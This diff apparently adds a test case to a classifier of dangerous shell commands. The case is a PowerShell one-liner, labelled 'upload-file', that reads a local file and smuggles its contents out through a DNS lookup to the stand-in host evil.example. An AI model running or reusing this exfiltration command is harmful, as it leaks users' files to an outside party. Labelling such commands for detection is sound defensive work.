@@ -4368,6 +4368,11 @@ ORDINARY += [
     ("PowerShell", _ps("Set-MpPreference -ThreatIDDefaultAction_Ids 2147519003 -ThreatIDDefaultAction_Actions 3"))
 ]
 
+# A file's text carried off in a name looked up through a variable (S-RULE-99).
+DANGEROUS += [
+    ("PowerShell", _ps('$env:D = Get-Content C:\\t\\s.txt -Raw; cmd /c "nslookup %D%.evil.example"'), "upload-file"),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
